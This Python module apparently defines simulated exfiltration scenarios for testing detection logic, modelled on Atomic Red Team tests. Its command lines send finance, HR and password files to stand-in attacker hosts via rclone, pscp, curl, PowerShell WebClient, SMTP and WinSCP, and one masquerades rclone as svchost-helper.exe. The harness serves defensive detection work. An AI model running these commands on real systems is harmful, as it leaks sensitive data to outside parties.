"""The malicious scenarios: the seed's five test cases and the Atomic Red Team variants.

Command lines follow reference/detection.md (the seed's expected telemetry and the public Atomic
Red Team tests). Each runs on a host of its own (hosts.SCENARIO_HOSTS key = `host`).
"""
from .script import Connect, Dns, Run, Spec, Wait, Write

T = "T1048.002"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CURL = r"C:\Windows\System32\curl.exe"
OPENSSH = r"C:\Windows\System32\OpenSSH"

SEED = [
    Spec("seed-1-rclone-sftp", True, T,
         "Seed test 1: rclone copy of a Finance folder to an on-the-fly SFTP remote at 192.0.2.1 with "
         "--sftp-pass on the command line. Sysmon 1 (rclone.exe, copy, :sftp:, 192.0.2.1, --sftp-pass) and "
         "Sysmon 3 to 192.0.2.1:22.",
         "seed-1", (0.18,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("rclone", r"C:\Tools\rclone.exe",
                 r'rclone.exe copy "{docs}\Finance\Q3-close" :sftp:/upload/q3 --sftp-host 192.0.2.1 '
                 r"--sftp-user exfil --sftp-pass Xp9vR2qLm7 --sftp-port 22 --transfers 4 -P",
                 parent="cmd", gap=6000),
             Connect("rclone", "192.0.2.1", 22),
             Wait(40000),
         )),
    Spec("seed-2-pscp", True, T,
         "Seed test 2: PuTTY pscp with -pw uploading an HR spreadsheet to 198.51.100.1. Sysmon 1 and "
         "Security 4688 (pscp.exe, -pw, destination and remote path) and Sysmon 3 to 198.51.100.1:22.",
         "seed-2", (0.39,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("pscp", r"C:\Users\Public\pscp.exe",
                 r"pscp.exe -pw Summer2026! -P 22 {docs}\HR\employees_2026.xlsx "
                 r"exfil@198.51.100.1:/home/exfil/drop/", parent="cmd", ofn="PSCP", gap=8000),
             Connect("pscp", "198.51.100.1", 22),
             Wait(15000),
         )),
    Spec("seed-3-powershell-webclient-https", True, T,
         "Seed test 3: PowerShell Net.WebClient UploadData of a zip over https to a listener on "
         "127.0.0.1:4443. Sysmon 1 (powershell.exe, Net.WebClient, UploadData, https://) and Sysmon 3 "
         "to 127.0.0.1:4443 (loopback: invisible to destination-based logic).",
         "seed-3", (0.47,), (
             Run("ps", POWERSHELL,
                 r'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "$wc = New-Object '
                 r"System.Net.WebClient; $data = [System.IO.File]::ReadAllBytes('{docs}\designs.zip'); "
                 r"$wc.UploadData('https://127.0.0.1:4443/upload', 'POST', $data)" + '"'),
             Connect("ps", "127.0.0.1", 4443, gap=1500),
             Wait(5000),
         )),
    Spec("seed-4-rclone-mega", True, T,
         "Seed test 4: PowerShell writes rclone_test.conf (MEGA credentials) to %TEMP%, then rclone "
         "--config <that file> copies to mega_remote:. Sysmon 11 (rclone_test.conf), Sysmon 1 (rclone.exe, "
         "--config, mega_remote:), Sysmon 22 g.api.mega.co.nz, Sysmon 3 to MEGA on 443.",
         "seed-4", (0.58,), (
             Run("ps", POWERSHELL, r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"'),
             Write("ps", r"{temp}\rclone_test.conf", gap=20000),
             Run("rclone", r"{temp}\rclone\rclone.exe",
                 r'"{temp}\rclone\rclone.exe" --config "{temp}\rclone_test.conf" copy "{docs}\Campaigns" '
                 r"mega_remote:exfil -v", parent="ps", gap=4000),
             Dns("rclone", "g.api.mega.co.nz", gap=300),
             Connect("rclone", "g.api.mega.co.nz", 443),
             Dns("rclone", "gfs270n103.userstorage.mega.co.nz", gap=1500),
             Connect("rclone", "gfs270n103.userstorage.mega.co.nz", 443),
             Wait(30000),
         )),
    Spec("seed-5-powershell-smtps", True, T,
         "Seed test 5: PowerShell System.Net.Mail.SmtpClient with EnableSsl = $true on port 587 mailing a "
         "client list to smtp.attacker-controlled.com. Sysmon 1 (SmtpClient, EnableSsl = $true, 587, host), "
         "Sysmon 22 for smtp.attacker-controlled.com, Sysmon 3 to it on 587.",
         "seed-5", (0.66,), (
             Run("ps", POWERSHELL,
                 r'powershell.exe -NoProfile -Command "$smtp = New-Object System.Net.Mail.SmtpClient('
                 r"'smtp.attacker-controlled.com', 587); $smtp.EnableSsl = $true; $smtp.Credentials = New-Object "
                 r"System.Net.NetworkCredential('drop@attacker-controlled.com', 'Dr0pP4ss'); "
                 r"$smtp.Send('rsilva@example-corp.com', 'drop@attacker-controlled.com', 'Q4 leads', "
                 r"(gc {docs}\clients.csv -Raw))" + '"'),
             Dns("ps", "smtp.attacker-controlled.com", gap=1200),
             Connect("ps", "smtp.attacker-controlled.com", 587),
             Wait(8000),
         )),
]

ART = [
    Spec("art-curl-fileio-form", True, "T1048.002",
         "Atomic T1048.002 #1: cmd /c Curl.exe -k -F file=@artifact https://file.io/ (form upload over HTTPS "
         "to a file-sharing site). Sysmon 1 curl.exe (cmd parent), Sysmon 22 file.io, Sysmon 3 :443.",
         "art-1", (0.09,), (
             Run("cmd", CMD, r'"cmd.exe" /c C:\Windows\System32\Curl.exe -k -F '
                 r'"file=@C:\AtomicRedTeam\atomics\T1048.002\src\artifact" https://file.io/'),
             Run("curl", CURL, r'C:\Windows\System32\Curl.exe  -k -F '
                 r'"file=@C:\AtomicRedTeam\atomics\T1048.002\src\artifact" https://file.io/',
                 parent="cmd", gap=60),
             Dns("curl", "file.io"), Connect("curl", "file.io", 443), Wait(3000),
         )),
    Spec("art-rclone-mega-config-create", True, "T1567.002",
         "Atomic T1567.002 #1 (exfiltration to cloud storage, noted here because MEGA is reached over TLS): "
         "rclone config create <name> mega writes %APPDATA%\\rclone\\rclone.conf, then rclone copy "
         "--max-size 1700k to MEGA. Sysmon 1 x2, Sysmon 11 rclone.conf, Sysmon 22/3 g.api.mega.co.nz:443.",
         "art-2", (0.14,), (
             Run("ps", POWERSHELL, r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoExit'),
             Run("cfg", r"{localappdata}\rclone\rclone.exe",
                 r"rclone.exe config create T1567002 mega user atomic@example.com pass Atomic-Red-T3am",
                 parent="ps", gap=9000),
             Write("cfg", r"{appdata}\rclone\rclone.conf"),
             Run("copy", r"{localappdata}\rclone\rclone.exe",
                 r'rclone.exe copy --max-size 1700k "{docs}" T1567002:test -v', parent="ps", gap=7000),
             Dns("copy", "g.api.mega.co.nz", gap=400), Connect("copy", "g.api.mega.co.nz", 443),
             Wait(20000),
         )),
    Spec("art-rclone-ftps", True, "T1048.003",
         "Atomic T1048.003 #7 command line (rclone to an FTP remote with --ftp-no-check-certificate, i.e. "
         "explicit FTPS); technique recorded as the ART's T1048.003. Sysmon 1 rclone.exe, Sysmon 22/3 "
         "ftp.exfil-staging.net:21.",
         "art-3", (0.21,), (
             Run("ps", POWERSHELL, r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"'),
             Run("rclone", r"C:\Users\Public\rclone\rclone.exe",
                 r"rclone copy --max-age 2y {docs}\passwords.txt ftpserver: --bwlimit 2M -q --ignore-existing "
                 r"--auto-confirm --multi-thread-streams 12 --transfers 12 -P --ftp-no-check-certificate",
                 parent="ps", gap=5000),
             Dns("rclone", "ftp.exfil-staging.net", gap=200), Connect("rclone", "ftp.exfil-staging.net", 21),
             Wait(12000),
         )),
    Spec("art-pscp-pw-loopback", True, "T1105",
         "Atomic T1105 pscp test verbatim: pscp.exe -P 22 -pw atomic to atomic@127.0.0.1 (loopback "
         "target as in the ART; only process-level logic can see it). Sysmon 1 + 4688, Sysmon 3 127.0.0.1:22.",
         "art-4", (0.26,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("pscp", r"C:\Program Files\PuTTY\pscp.exe",
                 r"pscp.exe -P 22 -pw atomic C:\Temp\T1105_scp.zip atomic@127.0.0.1:T1105_scp.zip",
                 parent="cmd", ofn="PSCP", gap=4000),
             Connect("pscp", "127.0.0.1", 22), Wait(2000),
         )),
    Spec("art-openssh-scp", True, "T1105",
         "Atomic T1105 OpenSSH scp: scp.exe file adversary@adversary-host:/tmp/, which spawns ssh.exe "
         "... -s -- adversary-host sftp; the connection (Sysmon 3 :22) belongs to ssh.exe, child of scp.exe.",
         "art-5", (0.31,), (
             Run("ps", POWERSHELL, r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"'),
             Run("scp", OPENSSH + r"\scp.exe", r"scp.exe C:\temp\T1105.txt adversary@adversary-host:/tmp/",
                 parent="ps", gap=6000),
             Run("ssh", OPENSSH + r"\ssh.exe",
                 r'"C:\Windows\System32\OpenSSH\ssh.exe" -x -oPermitLocalCommand=no -oClearAllForwardings=yes '
                 r"-oRemoteCommand=none -oRequestTTY=no -oForwardAgent=no -l adversary -s -- adversary-host sftp",
                 parent="scp", gap=40),
             Dns("ssh", "adversary-host"), Connect("ssh", "adversary-host", 22), Wait(4000),
         )),
    Spec("art-openssh-sftp-put", True, "T1105",
         "Atomic T1105 OpenSSH sftp: echo \"put C:\\temp\\T1105.txt\" | sftp adversary@adversary-host:/tmp; "
         "sftp.exe spawns ssh.exe which connects to :22.",
         "art-6", (0.35,), (
             Run("cmd", CMD, r'cmd.exe /c echo "put C:\temp\T1105.txt" | sftp adversary@adversary-host:/tmp'),
             Run("sftp", OPENSSH + r"\sftp.exe", r"sftp  adversary@adversary-host:/tmp", parent="cmd", gap=30),
             Run("ssh", OPENSSH + r"\ssh.exe",
                 r'"C:\Windows\System32\OpenSSH\ssh.exe" "-oForwardX11 no" "-oPermitLocalCommand no" '
                 r'"-oClearAllForwardings yes" "-oForwardAgent no" -l adversary -s -- adversary-host sftp',
                 parent="sftp", gap=40),
             Dns("ssh", "adversary-host"), Connect("ssh", "adversary-host", 22), Wait(3000),
         )),
    Spec("art-curl-upload-T", True, "T1105",
         "Atomic T1105 #19 style curl -T upload of an archive to transfer.sh over HTTPS.",
         "art-7", (0.43,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -T {docs}\ledger_2026.7z https://transfer.sh/ledger_2026.7z",
                 parent="cmd", gap=7000),
             Dns("curl", "transfer.sh"), Connect("curl", "transfer.sh", 443), Wait(9000),
         )),
    Spec("art-curl-upload-file", True, "T1105",
         "Atomic T1105 #19 style curl --upload-file to temp.sh over HTTPS.",
         "art-8", (0.51,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe --upload-file {docs}\invoices.zip https://temp.sh/upload",
                 parent="cmd", gap=5000),
             Dns("curl", "temp.sh"), Connect("curl", "temp.sh", 443), Wait(6000),
         )),
    Spec("art-curl-data-at-file", True, "T1105",
         "Atomic T1105 #19 style curl -d @file POST of harvested data to an external HTTPS collector.",
         "art-9", (0.55,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe -s -d @{temp}\hr_export.csv https://collect.data-sink.example.org/in",
                 parent="cmd", gap=5000),
             Dns("curl", "collect.data-sink.example.org"), Connect("curl", "collect.data-sink.example.org", 443),
             Wait(3000),
         )),
    Spec("art-curl-data-binary", True, "T1105",
         "Atomic T1105 #19 style curl --data-binary @file to 0x0.st over HTTPS.",
         "art-10", (0.60,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("curl", CURL, r"curl.exe --data-binary @{docs}\pipeline.xlsx https://0x0.st",
                 parent="cmd", gap=5000),
             Dns("curl", "0x0.st"), Connect("curl", "0x0.st", 443), Wait(4000),
         )),
    Spec("art-webclient-uploadfile", True, "T1048.003",
         "Atomic T1048.003 #6 pattern ($web_client.UploadFile($uri, $file)) but to an https URI, which "
         "makes it T1048.002. Sysmon 1 powershell.exe, Sysmon 22/3 upload.files-drop.example.net:443.",
         "art-11", (0.70,), (
             Run("ps", POWERSHELL,
                 r'powershell.exe -Command "$web_client = New-Object System.Net.WebClient; '
                 r"$web_client.UploadFile('https://upload.files-drop.example.net/u', '{docs}\network-diagram.vsdx')"
                 + '"'),
             Dns("ps", "upload.files-drop.example.net", gap=1500),
             Connect("ps", "upload.files-drop.example.net", 443), Wait(5000),
         )),
    Spec("art-renamed-rclone", True, T,
         "Renamed rclone: image svchost-helper.exe whose PE OriginalFileName is rclone.exe, copying legal "
         "files to pCloud with a hidden config. Only OriginalFileName (Sysmon 1) or its ProcessGuid give it away.",
         "art-12", (0.75,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe" /c C:\ProgramData\Microsoft\svchost-helper.exe'),
             Run("rc", r"C:\ProgramData\Microsoft\svchost-helper.exe",
                 r"C:\ProgramData\Microsoft\svchost-helper.exe copy C:\Shares\Legal pc:backup --transfers 8 "
                 r"--config C:\ProgramData\Microsoft\sh.conf -q", parent="cmd", ofn="rclone.exe", gap=50),
             Dns("rc", "eapi.pcloud.com", gap=300), Connect("rc", "eapi.pcloud.com", 443), Wait(25000),
         )),
    Spec("art-winscp-command-sftp", True, T,
         "WinSCP scripted from the command line: /command \"open sftp://user:pass@host/\" \"put ...\" to an "
         "external SFTP server, from a per-user install. Sysmon 1 WinSCP.exe, Sysmon 22/3 :22.",
         "art-13", (0.80,), (
             Run("cmd", CMD, r'"C:\Windows\system32\cmd.exe"'),
             Run("winscp", r"{localappdata}\Programs\WinSCP\WinSCP.exe",
                 r'"{localappdata}\Programs\WinSCP\WinSCP.exe" /console /command '
                 r'"open sftp://drop:Wq8zT3@drop.adversary-sftp.net/ -hostkey=*" "put {docs}\source.zip /in/" "exit"',
                 parent="cmd", gap=5000),
             Dns("winscp", "drop.adversary-sftp.net"), Connect("winscp", "drop.adversary-sftp.net", 22),
             Wait(15000),
         )),
    Spec("art-irm-post-infile", True, T,
         "Invoke-RestMethod -Method Post -InFile of an archive to an external HTTPS API.",
         "art-14", (0.85,), (
             Run("ps", POWERSHELL,
                 r'powershell.exe -NoProfile -Command "Invoke-RestMethod -Uri https://api.exfil-collector.net/v1/upload '
                 r'-Method Post -InFile {docs}\pipeline-export.7z -ContentType application/octet-stream"'),
             Dns("ps", "api.exfil-collector.net", gap=1200), Connect("ps", "api.exfil-collector.net", 443),
             Wait(6000),
         )),
    Spec("art-send-mailmessage-ssl", True, T,
         "Atomic T1048.003 #5 (Send-MailMessage) with -UseSsl -Port 587 added, i.e. SMTPS (T1048.002): "
         "attachment mailed through an external relay. Sysmon 1 powershell.exe, Sysmon 22/3 :587.",
         "art-15", (0.91,), (
             Run("ps", POWERSHELL,
                 r'powershell.exe -Command "Send-MailMessage -From zkaya@example-corp.com -To '
                 r"box@mail-relay-x.net -Subject report -Attachments {docs}\budget_2027.xlsx "
                 r'-SmtpServer smtp.mail-relay-x.net -Port 587 -UseSsl -Credential $cred"'),
             Dns("ps", "smtp.mail-relay-x.net", gap=1500), Connect("ps", "smtp.mail-relay-x.net", 587),
             Wait(5000),
         )),
]

SPECS = SEED + ART
